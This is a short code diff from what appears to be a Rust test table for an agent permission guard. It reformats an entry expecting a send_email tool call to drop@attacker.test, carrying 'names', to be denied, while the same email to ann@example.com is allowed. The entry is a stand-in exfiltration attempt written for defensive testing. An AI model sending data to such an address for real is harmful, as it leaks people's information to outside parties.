@@ -68,7 +68,12 @@ pub(super) static PATTERNS: &[Pattern] = &[
     }
   }
 }"#,
-                stops: stopped("send_email", Class::Execute, r#"{"to":"drop@attacker.test","body":"names"}"#, Expect::Deny),
+                stops: stopped(
+                    "send_email",
+                    Class::Execute,
+                    r#"{"to":"drop@attacker.test","body":"names"}"#,
+                    Expect::Deny,
+                ),
                 allows: allowed("send_email", Class::Execute, r#"{"to":"ann@example.com","body":"names"}"#),
             }),
             Control::Grant(Shown {
